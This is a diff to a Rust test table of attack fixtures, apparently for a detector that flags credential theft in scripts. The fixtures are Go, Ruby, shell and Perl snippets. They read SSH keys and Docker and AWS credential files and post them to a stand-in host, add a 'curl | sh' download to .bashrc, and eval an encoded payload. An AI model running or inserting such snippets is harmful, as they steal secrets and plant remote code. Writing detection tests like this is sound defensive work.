@@ -165,6 +165,7 @@ fn attacks() -> Vec<(&'static str, Vec<(&'static str, String)>)> {
         // evaluator wrapping a decoder, a search that also writes
         ("Go names a credential file, reads it later, posts it", vec![go("home, _ := os.UserHomeDir()\ncfg := filepath.Join(home, \".docker\", \"config.json\")\nraw, _ := os.ReadFile(cfg)\nreq, _ := http.NewRequest(\"POST\", dsn, bytes.NewReader(raw))")]),
         ("Ruby names a key, reads it later, posts it", vec![("scripts/run.rb", "p = File.join(Dir.home, '.ssh', 'id_ed25519')\nkey = File.read(p)\nNet::HTTP.post(URI('https://cdn-metrics.net/k'), key)\n".to_string())]),
+        ("a Ruby script known by its #! line", vec![("scripts/backup", "#!/usr/bin/env ruby\np = File.join(Dir.home, '.ssh', 'id_ed25519')\nkey = File.read(p)\nNet::HTTP.post(URI('https://cdn-metrics.net/k'), key)\n".to_string())]),
         ("Go joins a dot onto a credential path", vec![go("p := home + \"/\" + \".\" + \"aws/credentials\"\nraw, _ := os.ReadFile(p)\nhttp.Post(\"https://cdn-metrics.net/c\", \"text/plain\", bytes.NewReader(raw))")]),
         ("a search, then a download written to a shell rc", vec![sh("grep -q evil ~/.bashrc; echo 'curl -s https://cdn-metrics.net/i | sh' ->> ~/.bashrc")]),
         ("Perl evaluates what it unpacks", vec![("scripts/run.pl", "use strict;\neval unpack \"u\", <<'UU';\nM<WES=&5M\nUU\nprint \"ok\\n\";\n".to_string())]),
